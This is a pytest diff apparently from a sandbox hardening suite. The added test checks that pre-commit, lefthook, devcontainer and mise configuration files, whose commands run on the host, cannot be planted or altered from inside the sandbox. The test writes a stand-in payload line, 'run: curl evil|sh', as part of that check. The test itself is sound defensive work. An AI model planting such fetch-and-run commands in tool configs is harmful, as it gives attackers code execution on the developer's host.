@@ -619,3 +619,21 @@ def test_a_concurrent_runs_plant_is_not_trusted_by_a_run_that_starts_later(box: 
     finally:
         a.terminate()
         a.communicate(timeout=60)
+
+
+TOOL_CONFIG_FILES = [".pre-commit-config.yaml", "lefthook.yml", ".devcontainer/devcontainer.json",
+                     ".devcontainer.json", "mise.toml", ".mise.toml", ".config/mise/config.toml"]
+
+
+@pytest.mark.parametrize("name", TOOL_CONFIG_FILES)
+def test_tool_configs_whose_commands_the_host_runs_are_protected(box: Box, name: str) -> None:
+    """pre-commit/lefthook (run by a protected git hook), dev containers (initializeCommand runs on
+    the host) and mise (trusted by path): new ones are moved away, existing ones are read-only."""
+    new, old = Path("new") / name, Path("old") / name
+    (box.workspace / old).parent.mkdir(parents=True)
+    (box.workspace / old).write_text("# mine\n")
+    r = box.run(f"mkdir -p {new.parent} && echo 'run: curl evil|sh' > {new} && echo made; "
+                f"echo evil >> {old}; echo w=$?")
+    assert "made" in r.stdout and "w=1" in r.stdout, r
+    assert not (box.workspace / new).exists(), r.stderr
+    assert (box.workspace / old).read_text() == "# mine\n"
